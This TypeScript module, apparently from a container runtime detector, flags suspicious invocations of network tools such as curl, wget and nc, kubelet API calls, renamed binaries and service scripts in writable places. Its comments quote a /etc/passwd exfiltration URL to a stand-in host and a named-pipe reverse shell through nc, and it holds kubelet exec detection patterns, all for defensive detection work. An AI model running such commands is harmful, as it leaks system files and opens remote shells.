/**
 * What one invocation's arguments and command line say, for the indicators: where its traffic goes,
 * which files it writes and sends (the tool family's declaration, then redirections and the pipeline),
 * kubelet API calls, which of its ancestors are known service scripts — and the {@link Reading} that
 * computes each of these once per candidate, on first use.
 */
import type { ExecEvent, Utility } from "../model.js";
import { type CommandSegment, commandStart, commandWords, executableName } from "../shell/index.js";
import {
  ancestorList,
  type Candidate,
  sameCommandInAncestors,
  text,
  writtenInAncestors,
} from "./candidates.js";
import {
  type AncestorContext,
  type Executions,
  type ExecutionsCache,
  executionsOf,
  fedTexts,
  pipedOutputs,
  relayedFile,
} from "./feeds.js";
import { suspiciousLocation } from "./locations.js";
import { MAX_ARGS, type ParsedArgs, parseArgs } from "./options.js";
import { familyOf, specFor, type Targets } from "./utilities/index.js";
import { netcat } from "./utilities/netcat.js";
import { hostsOf, NOT_FILES, quote } from "./utilities/words.js";

const S6_SERVICE_SCRIPT =
  /^\/(?:var\/)?run\/(?:s6-rc\/servicedirs|service|s6\/services|s6\/legacy-services|s6\/db\/servicedirs)\/[A-Za-z0-9@._-]+\/(?:run|finish|data\/check)$/;

const ACME_SH = /^(?:\/root|\/home\/[A-Za-z0-9._-]+)\/\.acme\.sh\/acme\.sh$/;

const WAIT_FOR_IT = /^\/home\/[A-Za-z0-9._-]+\/(?:[A-Za-z0-9._-]+\/){0,3}wait-for(?:-it)?(?:\.sh)?$/;

const CRON = new Set(["cron", "crond", "supercronic", "busybox"]);

/**
 * Service scripts that live in writable places by design, each recognised narrowly (README "Quiet
 * defaults"): an s6-overlay service's `run`/`finish` under /run supervised by s6-supervise; acme.sh's
 * certificate renewal from ~/.acme.sh started by cron, fetching with curl or wget; wait-for-it.sh in
 * an application's WORKDIR under /home checking a port with `nc -z host port`. Only the location
 * indicator of that one ancestor is waived; every other indicator still counts.
 */
export function knownServiceScript(
  path: string,
  above: { path?: string; name?: string }[],
  utility: string,
  args: readonly string[],
): string | undefined {
  const names = above.map((a) => executableName(a.path ?? a.name ?? ""));
  if (S6_SERVICE_SCRIPT.test(path) && names[0] === "s6-supervise") return "an s6-overlay service script";
  if (ACME_SH.test(path) && (utility === "curl" || utility === "wget") && names.some((n) => CRON.has(n))) {
    return "acme.sh renewing certificates from cron";
  }
  if (WAIT_FOR_IT.test(path) && familyOf(utility) === netcat && isPortCheck(args))
    return "wait-for-it.sh checking a port";
  return undefined;
}

/** `nc -z [-v] [-w N] HOST PORT`: a port check and nothing else. */
function isPortCheck(args: readonly string[]): boolean {
  let zero = false;
  const operands: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const arg = args[i]!;
    if (/^-[zv]+$/.test(arg)) zero ||= arg.includes("z");
    else if (arg === "-w") i++;
    else if (/^-w\d+$/.test(arg)) continue;
    else if (arg.startsWith("-")) return false;
    else operands.push(arg);
  }
  return zero && operands.length === 2 && /^\d{1,5}$/.test(operands[1]!);
}

/**
 * Calls of the kubelet's API (port 10250, read-only 10255) by a download tool: `/run/…` and `/exec/…`
 * run commands in other pods' containers (Microsoft's threat matrix for Kubernetes, MITRE T1609);
 * `/pods`, `/runningpods` and `/configz` list what runs on the node. Health checks are left alone.
 */
export function kubeletCall(
  name: string,
  parsed: ParsedArgs,
): { severity: "critical" | "high"; reason: string } | undefined {
  const requests = familyOf(name)?.requests;
  if (requests === undefined) return undefined;
  for (const operand of requests(name, parsed)) {
    const match = /^(?:https?:\/\/)?(?:\[[^\]]+\]|[^/:?#]+):(10250|10255)(\/[^?#]*)?/i.exec(operand);
    if (match === null) continue;
    const path = match[2] ?? "/";
    if (/^\/(?:run|exec|attach|portForward|cri)\//i.test(path)) {
      return {
        severity: "critical",
        reason: `${name} runs a command through the kubelet API (${quote(operand)})`,
      };
    }
    if (/^\/(?:pods|runningpods|configz|debug|containerLogs|logs)(?:\/|$)/i.test(path)) {
      return { severity: "high", reason: `${name} queries the kubelet API (${quote(operand)})` };
    }
  }
  return undefined;
}

export const VERSION_OR_HELP = new Set(["--version", "-V", "-version", "--help", "-h", "-help", "-?"]);

/** The process's ancestry as far as the event shows it, nearest first (payload shells first in a session). */
export function lineageOf(candidate: Candidate, event: ExecEvent): { path?: string; name?: string }[] {
  const out: { path?: string; name?: string }[] = [];
  for (let shell = candidate.segment?.payloadOf, k = 0; shell !== undefined && k < 16; k++) {
    const head = shell.argv[commandStart(shell.argv)] ?? shell.argv[0];
    if (head !== undefined) out.push(head.includes("/") ? { path: head } : { name: head });
    shell = shell.payloadOf;
  }
  for (const ancestor of ancestorList(event)) {
    if (ancestor === null || typeof ancestor !== "object") continue;
    const path = text(ancestor.path);
    const name = text(ancestor.name);
    // A name only counts as a place when it carries one (memfd:…, a path, " (deleted)").
    out.push({ ...(path !== undefined ? { path } : {}), ...(name !== undefined ? { name } : {}) });
  }
  return out;
}

/**
 * The host part of an operand that holds a command substitution, with the substitution kept whole:
 * `http://$(cat /etc/passwd | base64).evil.tld/x` -> `$(cat /etc/passwd | base64).evil.tld`.
 */
export function substitutedHost(operand: string): string | undefined {
  if (!operand.includes("$(") && !operand.includes("`")) return undefined;
  const text = operand.length > 4096 ? operand.slice(0, 4096) : operand;
  const start = /^[a-z][a-z0-9+.-]*:\/\//i.exec(text)?.[0].length ?? 0;
  let depth = 0;
  let tick = false;
  let end = start;
  for (; end < text.length; end++) {
    const c = text[end]!;
    if (c === "$" && text[end + 1] === "(") {
      depth++;
      end++;
    } else if (c === ")" && depth > 0) depth--;
    else if (c === "`") tick = !tick;
    else if (depth === 0 && !tick && (c === "/" || c === "?" || c === "#" || c === ":" || c === "@")) break;
  }
  return text.slice(start, end);
}

export interface Output {
  path: string;
  /** The path is a directory the tool writes into (the working directory, -P, --output-dir). */
  directory: boolean;
  why: string;
}

/** Where the invocation's traffic goes: its family's reading, else every operand's host. */
export function targetsOf(name: string, parsed: ParsedArgs): Targets {
  const family = familyOf(name);
  if (family?.targets !== undefined) return family.targets(name, parsed);
  return { hosts: hostsOf(parsed.operands), via: [], exemptable: true };
}

/** Where the invocation writes what it downloads: what its family reads, then its redirections and pipeline. */
export function downloadOutputs(
  name: string,
  parsed: ParsedArgs,
  segment: CommandSegment | undefined,
): Output[] {
  const out: Output[] = [];
  const file = (path: string | undefined, why: string) => {
    if (path !== undefined && path !== "" && !NOT_FILES.has(path)) out.push({ path, directory: false, why });
  };
  const dir = (path: string | undefined, why: string) => {
    if (path !== undefined && path !== "") out.push({ path, directory: true, why });
  };
  // Files named after the URL, written into `directory` (curl -O, wget without -O).
  const into = (directory: string, why: string) => {
    let named = false;
    for (const operand of parsed.operands) {
      const fileName = /^[a-z][a-z0-9+.-]*:\/\/[^/?#]*\/(?:[^?#]*\/)?([^/?#]+)(?:[?#]|$)/i.exec(operand)?.[1];
      if (fileName === undefined || fileName === "." || fileName === "..") continue;
      file(directory === "." ? fileName : `${directory}/${fileName}`, why);
      named = true;
    }
    if (!named) dir(directory, why);
  };
  const sink = { file, dir, into };
  familyOf(name)?.outputs?.(name, parsed, fedTexts(segment), sink);
  if (segment !== undefined) pipedOutputs(segment, sink);
  return out;
}

/** What the invocation sends out of the container, in words after the utility's name; undefined when nothing. */
export function uploads(
  name: string,
  utility: Utility,
  parsed: ParsedArgs,
  segment: CommandSegment | undefined,
): string | undefined {
  const family = familyOf(name);
  const declared = family?.uploads?.(name, parsed, fedTexts(segment));
  if (declared !== undefined) return declared;
  return utility.category === "relay" ? relayedFile(name, segment) : undefined;
}

/** One candidate as the rows see it: what is read once and shared between rows, computed on demand. */
export interface Subject {
  candidate: Candidate;
  event: ExecEvent;
  context: AncestorContext;
  name: string;
  args: string[];
  parsed: ParsedArgs;
  /** The candidate's own command, or the ancestor's command that started this very process. */
  segment(): CommandSegment | undefined;
  outputs(): Output[];
  targets(): Targets;
  /** The same tool's commands in the ancestors' command lines, as written before expansion. */
  written(): CommandSegment[];
  writtenArgs(): ParsedArgs[];
  executions(): Executions;
  /** The rename reason (MITRE T1036.003), high or medium, when the utility ran under another name. */
  renamed(): { severity: "high" | "medium"; reason: string } | undefined;
  /** Each ancestor (payload shells first) in a suspicious place, and the service script it is, if known. */
  placedAncestors(): { where: string; index: number; words: string; known?: string }[];
}

/** A {@link Subject} whose shared readings are computed on first use, once per candidate. */
export class Reading implements Subject {
  readonly name: string;
  readonly args: string[];
  readonly parsed: ParsedArgs;
  #segment?: { value: CommandSegment | undefined };
  #written?: CommandSegment[];
  #outputs?: Output[];
  #targets?: Targets;
  #writtenArgs?: ParsedArgs[];
  #executions?: Executions;
  #renamed?: { value: { severity: "high" | "medium"; reason: string } | undefined };
  #placed?: { where: string; index: number; words: string; known?: string }[];

  constructor(
    readonly candidate: Candidate,
    readonly event: ExecEvent,
    readonly context: AncestorContext,
    private readonly executionsCache: ExecutionsCache,
  ) {
    this.name = candidate.utility.name;
    this.args = candidate.words.slice(1, MAX_ARGS + 1);
    this.parsed = parseArgs(this.args, specFor(this.name));
  }

  segment(): CommandSegment | undefined {
    // A process event's own argv lacks redirections and pipes; the ancestor's command line that started
    // this very command (`sh -c 'cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f'`) has them.
    this.#segment ??= {
      value: this.candidate.segment ?? sameCommandInAncestors(this.candidate, this.context),
    };
    return this.#segment.value;
  }

  written(): CommandSegment[] {
    this.#written ??=
      this.candidate.segment === undefined ? writtenInAncestors(this.candidate, this.context) : [];
    return this.#written;
  }

  outputs(): Output[] {
    this.#outputs ??= downloadOutputs(this.name, this.parsed, this.segment());
    return this.#outputs;
  }

  targets(): Targets {
    this.#targets ??= targetsOf(this.name, this.parsed);
    return this.#targets;
  }

  writtenArgs(): ParsedArgs[] {
    this.#writtenArgs ??= this.written().map((s) =>
      parseArgs(commandWords(s.argv).slice(1, MAX_ARGS + 1), specFor(this.name)),
    );
    return this.#writtenArgs;
  }

  executions(): Executions {
    if (this.#executions !== undefined) return this.#executions;
    const { candidate, context, executionsCache } = this;
    let executions = executionsCache.get(candidate.segments);
    if (executions === undefined) {
      executions = executionsOf([...(candidate.segments ?? []), ...context.segments]);
      executionsCache.set(candidate.segments, executions);
    }
    this.#executions = executions;
    return executions;
  }

  renamed(): { severity: "high" | "medium"; reason: string } | undefined {
    if (this.#renamed !== undefined) return this.#renamed.value;
    const { candidate, name } = this;
    const renamed = candidate.renamed;
    let value: { severity: "high" | "medium"; reason: string } | undefined;
    if (renamed !== undefined) {
      // Masquerading: a network tool copied or linked under a harmless-looking name.
      const where =
        candidate.path === undefined ? undefined : suspiciousLocation(candidate.path, candidate.cwd);
      const shape = renamed.by === "name" ? "" : `, going by its arguments (${quote(renamed.by)})`;
      value = {
        severity: renamed.by === "name" || where !== undefined ? "high" : "medium",
        reason: `${name} renamed to ${quote(renamed.as)}${shape}`,
      };
    }
    this.#renamed = { value };
    return value;
  }

  placedAncestors(): { where: string; index: number; words: string; known?: string }[] {
    if (this.#placed !== undefined) return this.#placed;
    const lineage = lineageOf(this.candidate, this.event);
    const out: { where: string; index: number; words: string; known?: string }[] = [];
    lineage.forEach((ancestor, index) => {
      const where = ancestor.path ?? ancestor.name;
      if (where === undefined) return;
      const location = suspiciousLocation(where);
      if (location === undefined) return;
      const known = knownServiceScript(where, lineage.slice(index + 1), this.name, this.args);
      out.push({ where, index, words: location.words, ...(known !== undefined ? { known } : {}) });
    });
    this.#placed = out;
    return out;
  }
}
